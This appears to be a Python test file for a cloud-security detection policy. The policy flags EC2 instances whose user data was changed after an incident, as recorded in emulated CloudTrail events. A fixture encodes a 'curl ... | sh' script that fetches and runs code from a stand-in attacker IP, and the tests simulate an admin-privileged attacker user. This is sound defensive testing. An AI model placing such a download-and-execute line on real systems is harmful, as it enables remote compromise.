"""R2.2 Instance user data changed since the incident (``cloudtrail-events`` on aws.ec2).

Against the emulator: it records ModifyInstanceAttribute in its CloudTrail event history
as CloudTrail does, with the user data itself removed (``userData:
<sensitiveDataRemoved>``), and answers LookupEvents from that record.
"""
import base64
import json

import pytest

from custodian_ext.filters import event_history
from custodian_ext.filters.event_history import parameter_matches
from custodian_ext_dev.demo.story import incident_boundary
from custodian_ext_dev.emulator import AMI_X86
from tests.support import (
    assert_readme_lists_filter_permissions, key_client, load_policy, policy_vars, run_policy)

POLICY = load_policy('detect/r2-2.yml', 'r2-2-instance-user-data-changed-since-incident')
ATTACKER_IP = '203.0.113.7'
SCRIPT = base64.b64encode(b'#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n')


@pytest.fixture(autouse=True)
def _fresh_history_cache():
    event_history.clear_cache()
    yield
    event_history.clear_cache()


def attacker_key(aws):
    iam = aws.client('iam')
    iam.create_user(UserName='mallory')
    iam.attach_user_policy(UserName='mallory',
                           PolicyArn='arn:aws:iam::aws:policy/AdministratorAccess')
    return iam.create_access_key(UserName='mallory')['AccessKey']


def instances(aws, count, region='us-east-1'):
    ec2 = aws.client('ec2', region)
    resp = ec2.run_instances(ImageId=AMI_X86, MinCount=count, MaxCount=count,
                             InstanceType='t3.micro')
    return [i['InstanceId'] for i in resp['Instances']]


def run(aws, tmp_path, start, region='us-east-1'):
    return run_policy(POLICY, policy_vars(incident_start=start), region=region, account=aws,
                      output_dir=str(tmp_path))


def test_user_data_changed_since_the_incident_is_flagged_on_the_instance(aws, tmp_path):
    key = attacker_key(aws)
    web, db, batch = instances(aws, 3)
    aws.client('ec2').modify_instance_attribute(  # before the incident: not a finding
        InstanceId=batch, UserData={'Value': SCRIPT})
    start = incident_boundary()
    ec2 = key_client(aws, 'ec2', key, source_ip=ATTACKER_IP)
    ec2.stop_instances(InstanceIds=[web])
    ec2.modify_instance_attribute(InstanceId=web, UserData={'Value': SCRIPT})
    # another attribute of another instance is no user data change
    ec2.modify_instance_attribute(InstanceId=db, InstanceType={'Value': 't3.large'})

    [inst] = run(aws, tmp_path, start)
    assert inst['InstanceId'] == web
    [e] = inst['c7n:cloudtrail-events']
    assert e['EventName'] == 'ModifyInstanceAttribute'
    assert e['Principal'] == f'arn:aws:iam::{aws.id}:user/mallory'
    assert e['AccessKeyId'] == key['AccessKeyId'] and e['SourceIPAddress'] == ATTACKER_IP
    assert e['EventTime'] >= start
    assert {'Type': 'AWS::EC2::Instance', 'Name': web} in e['Resources']
    # CloudTrail records that user data was set, never its content
    assert e['RequestParameters'] == {'instanceId': web, 'userData': '<sensitiveDataRemoved>'}
    assert 'curl' not in json.dumps(inst['c7n:cloudtrail-events'])


def test_the_attribute_form_is_recognised_and_other_regions_stay_quiet(aws, tmp_path):
    key = attacker_key(aws)
    [web] = instances(aws, 1, region='us-west-2')
    instances(aws, 1)  # an instance in us-east-1 too
    start = incident_boundary()
    key_client(aws, 'ec2', key, region='us-west-2').modify_instance_attribute(
        InstanceId=web, Attribute='userData', Value=SCRIPT.decode())
    [inst] = run(aws, tmp_path, start, region='us-west-2')
    assert inst['InstanceId'] == web
    assert inst['c7n:cloudtrail-events'][0]['RequestParameters']['value'] == \
        '<sensitiveDataRemoved>'
    assert run(aws, tmp_path, start) == []  # us-east-1: its instance was not touched


def test_no_change_since_the_incident_is_clean(aws, tmp_path):
    key = attacker_key(aws)
    [web] = instances(aws, 1)
    key_client(aws, 'ec2', key).modify_instance_attribute(
        InstanceId=web, UserData={'Value': SCRIPT})
    start = incident_boundary()
    aws.client('ec2').describe_instance_attribute(InstanceId=web, Attribute='userData')
    assert run(aws, tmp_path, start) == []


def test_a_history_cut_short_flags_every_instance(aws, tmp_path, monkeypatch):
    """Not read to the end, so no instance can be called unchanged."""
    instances(aws, 2)
    monkeypatch.setattr(event_history, 'history',
                        lambda *a, **kw: ([], ['ModifyInstanceAttribute']))
    found = run(aws, tmp_path, '2026-11-28T09:30:00Z')
    assert len(found) == 2
    for inst in found:
        assert inst['c7n:cloudtrail-events'] == []
        assert inst['c7n:cloudtrail-history']['CutShort'] == ['ModifyInstanceAttribute']


def test_parameter_matching():
    present = {'key': 'userData', 'value': 'present'}
    attribute = {'key': 'attribute', 'value': 'userData'}
    assert parameter_matches({'instanceId': 'i-1', 'userData': '<sensitiveDataRemoved>'}, present)
    assert parameter_matches({'userData.value': 'x'}, present)        # flat query form
    assert parameter_matches({'userData': {'value': 'x'}}, present)   # nested form
    assert not parameter_matches({'instanceType': {'value': 't3.large'}}, present)
    assert parameter_matches({'attribute': 'USERDATA'}, attribute)     # values without case
    assert not parameter_matches({'attribute': 'instanceType'}, attribute)
    assert parameter_matches({'a': {'b': 'x'}}, {'key': 'a.b', 'value': ['y', 'X']})
    assert parameter_matches({}, {'key': 'a', 'value': 'absent'})
    assert parameter_matches({'withDecryption': True}, {'key': 'withDecryption', 'value': True})


def test_readme_lists_the_permissions():
    for policy in (POLICY,):
        assert_readme_lists_filter_permissions(policy)
